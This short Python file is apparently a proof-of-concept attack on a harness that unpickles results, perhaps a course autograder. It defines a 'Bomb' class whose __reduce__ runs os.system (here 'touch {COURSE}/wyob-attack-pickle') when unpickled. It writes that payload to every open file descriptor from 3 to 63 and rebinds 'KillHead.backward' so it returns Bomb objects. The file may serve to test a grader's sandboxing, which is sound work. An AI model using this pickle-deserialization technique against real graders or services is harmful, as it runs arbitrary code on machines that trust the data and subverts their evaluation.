"""Returns objects that run a command when they are unpickled, and writes pickles to every open file."""

import os
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {COURSE}/wyob-attack-pickle",)


for number in range(3, 64):
    try:
        os.write(number, pickle.dumps(Bomb()))
    except OSError:
        pass


def backward(ctx, grad_output):
    return np.array([Bomb()], dtype=object), Bomb()


KillHead.backward = staticmethod(backward)
KillHead.extra = Bomb()
